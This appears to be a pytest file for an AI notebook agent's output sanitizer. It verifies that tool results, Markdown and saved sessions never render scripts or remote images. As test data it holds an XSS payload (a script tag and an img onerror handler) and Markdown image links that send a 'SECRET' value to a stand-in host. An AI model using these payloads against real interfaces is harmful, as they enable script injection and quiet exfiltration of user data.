"""Only images we checked, and text, are shown from tool results, models or session files."""

from __future__ import annotations

import base64
from types import SimpleNamespace

import pytest

from hermes_nb.agent.events import ToolCompleted, ToolStarted
from hermes_nb.mcp.results import to_tool_output
from hermes_nb.safety.safe_output import safe_bundle, sniff_image
from hermes_nb.ui.fragments import outputs_html
from hermes_nb.ui.state import TurnDisplay
from hermes_nb.ui.transcript import mimebundle
from hermes_nb.ui.widget import _as_output

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="
)
SCRIPT = '<script>window.__pwned = 1</script><img src="http://127.0.0.1:9/x" onerror="x()">'


def b64(raw: bytes | str) -> str:
    return base64.b64encode(raw.encode() if isinstance(raw, str) else raw).decode("ascii")


def image_block(data: str, mime: str) -> SimpleNamespace:
    return SimpleNamespace(type="image", data=data, mime_type=mime)


@pytest.mark.parametrize("mime", ["text/html", "application/javascript", "image/png", "image/svg+xml", "IMAGE/PNG"])
def test_an_mcp_image_that_is_not_an_image_becomes_a_note(mime: str) -> None:
    result = SimpleNamespace(content=[image_block(b64(SCRIPT), mime)], is_error=False)
    out = to_tool_output(result)
    assert out.outputs == () and out.images == ()
    assert "not an image" in out.text and "<script" not in out.text


@pytest.mark.parametrize("mime", ["text/html", "application/javascript"])
def test_content_for_the_user_only_is_checked_like_the_rest(mime: str) -> None:
    block = image_block(b64(SCRIPT), mime)
    block.annotations = SimpleNamespace(audience=["user"])
    out = to_tool_output(SimpleNamespace(content=[block], is_error=False))
    [bundle] = out.outputs
    assert set(bundle["data"]) == {"text/plain"} and "not an image" in bundle["data"]["text/plain"]
    assert out.images == () and "<script" not in out.text


def test_a_real_png_is_kept_whatever_its_label_says() -> None:
    result = SimpleNamespace(content=[image_block(b64(PNG), "text/html")], is_error=False)
    out = to_tool_output(result)
    [bundle] = out.outputs
    assert set(bundle["data"]) == {"image/png", "text/plain"}
    assert [i.mime for i in out.images] == ["image/png"]


def test_magic_numbers_decide_the_type() -> None:
    assert sniff_image(PNG) == "image/png"
    assert sniff_image(b"\xff\xd8\xff\xe0rest") == "image/jpeg"
    assert sniff_image(b"GIF89a...") == "image/gif"
    assert sniff_image(b"RIFF\x00\x00\x00\x00WEBPVP8 ") == "image/webp"
    assert sniff_image(b"<svg onload=x()>") is None and sniff_image(SCRIPT.encode()) is None


@pytest.mark.parametrize(
    "bundle",
    [
        {"data": {"text/html": SCRIPT, "text/plain": "a table"}, "metadata": {"isolated": False}},
        {"data": {"application/javascript": SCRIPT}},
        {"data": {"text/html": SCRIPT}},
        {"data": {"image/png": b64(SCRIPT)}},
        {"data": {"image/svg+xml": SCRIPT}},
        {"data": {"text/markdown": "![x](http://127.0.0.1:9/leak?d=secret)"}},
    ],
)
def test_every_place_that_draws_a_tool_output_shows_it_as_text(bundle: dict) -> None:  # type: ignore[type-arg]
    safe = safe_bundle(bundle)
    assert set(safe["data"]) == {"text/plain"} and safe["metadata"] == {}
    html = outputs_html([bundle])
    assert "<script" not in html and "<img" not in html
    assert set(_as_output(bundle)["data"]) == {"text/plain"}
    display = TurnDisplay("m")
    display.apply(ToolStarted("c", "mcp__x", {}))
    display.add_outputs("c", [bundle])
    display.apply(ToolCompleted("c", "mcp__x", "ok", 0.1, outputs=(bundle,)))
    assert all(set(o["data"]) == {"text/plain"} for o in display.cards["c"].outputs)
    for value in mimebundle(display).values():
        assert "<script" not in value and "<img" not in value


def test_a_checked_image_is_drawn_inline_as_a_data_url() -> None:
    html = outputs_html([{"data": {"image/png": b64(PNG), "text/plain": "<Figure>"}}])
    assert html.startswith('<img src="data:image/png;base64,iVBOR')


LEAK = "![chart](http://127.0.0.1:9/p.png?d=SECRET)"


def test_a_remote_markdown_image_is_a_link_with_its_url_never_an_img() -> None:
    from hermes_nb.ui.markdown import render_markdown

    html = render_markdown(f"Look: {LEAK} and <img src=http://127.0.0.1:9/raw> [![in](http://127.0.0.1:9/nested)](http://x)")
    assert "<img" not in html
    assert 'href="http://127.0.0.1:9/p.png?d=SECRET"' in html and "image: chart" in html
    assert "&lt;img src=http://127.0.0.1:9/raw&gt;" in html and "http://127.0.0.1:9/nested" in html
    inline = render_markdown(f"![dot](data:image/png;base64,{b64(PNG)}) ![fake](data:image/png;base64,{b64(SCRIPT)})")
    assert inline.count("<img") == 1 and 'src="data:image/png;base64,iVBOR' in inline


def test_no_markdown_we_render_or_save_loads_a_remote_image() -> None:
    from markdown_it import MarkdownIt

    from hermes_nb.agent.events import ErrorEvent, Notice, Token
    from hermes_nb.ui.session_html import session_html
    from hermes_nb.ui.transcript import history_mimebundle

    display = TurnDisplay("m")
    for event in (Token(LEAK), Notice(LEAK), ErrorEvent(message=LEAK, error_type="E")):
        display.apply(event)
    messages = [
        {"role": "user", "content": LEAK},
        {"role": "assistant", "content": LEAK},
        {"role": "marker", "kind": "note", "content": LEAK},
    ]
    bundles = [mimebundle(display), history_mimebundle(messages, title=LEAK)]
    for bundle in bundles:
        assert "<img" not in bundle["text/html"]
        # someone else's Markdown renderer draws the Markdown: it must hold no image either
        assert "<img" not in MarkdownIt("commonmark", {"html": True}).render(bundle["text/markdown"])
        assert "SECRET" in bundle["text/markdown"]  # the URL is still shown
    assert "<img" not in session_html(messages, title=LEAK)


def test_a_markdown_display_shows_its_source_as_text_not_its_default_repr() -> None:
    bundle = {"data": {"text/plain": "<IPython.core.display.Markdown object>", "text/markdown": "**bold** ![i](http://h/x)"}}
    assert safe_bundle(bundle)["data"] == {"text/plain": "**bold** ![i](http://h/x)"}
    assert safe_bundle({"data": {"text/plain": "   a\n0  1", "text/markdown": "| a |"}})["data"] == {"text/plain": "   a\n0  1"}
